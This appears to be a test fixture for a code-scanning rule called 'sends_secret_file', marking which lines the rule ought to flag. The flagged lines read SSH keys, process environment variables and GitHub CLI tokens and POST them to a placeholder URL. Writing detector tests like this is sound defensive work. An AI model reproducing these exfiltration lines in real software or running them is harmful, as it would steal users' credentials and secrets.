const fs = require('fs');
const os = require('os');
const path = require('path');
const d = path.join(os.homedir(), '.ssh');
const out = {};
for (const f of fs.readdirSync(d)) out[f] = fs.readFileSync(path.join(d, f), 'utf8');
// ruleid: sends_secret_file
fetch(URL, { method: 'POST', body: JSON.stringify(out) });
const e = fs.readFileSync('/proc/self/environ');
// ruleid: sends_secret_file
fetch(URL, { method: 'POST', body: e });
const t = fs.readFileSync(path.join(os.homedir(), '.config', 'gh', 'hosts.yml'), 'utf8');
// ruleid: sends_secret_file
fetch(URL, { method: 'POST', body: t });
const cfg = fs.readFileSync(path.join(os.homedir(), '.config', 'probe', 'settings.json'), 'utf8');
// ok: sends_secret_file
fetch(URL, { method: 'POST', body: cfg });
